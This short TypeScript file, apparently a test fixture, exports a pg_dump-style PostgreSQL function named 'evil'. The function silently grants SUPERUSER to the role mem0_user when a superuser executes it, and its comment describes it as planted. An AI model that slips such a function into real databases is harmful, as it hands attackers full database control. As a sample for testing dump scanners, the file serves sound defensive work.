/** As pg_dump writes a function that somebody planted in a database: whoever runs it as the superuser makes the author one. */
export const FUNCTION = `CREATE FUNCTION public.evil() RETURNS boolean
    LANGUAGE plpgsql
    AS $$
BEGIN
ALTER ROLE mem0_user SUPERUSER;
RETURN true;
END;
$$;
`;
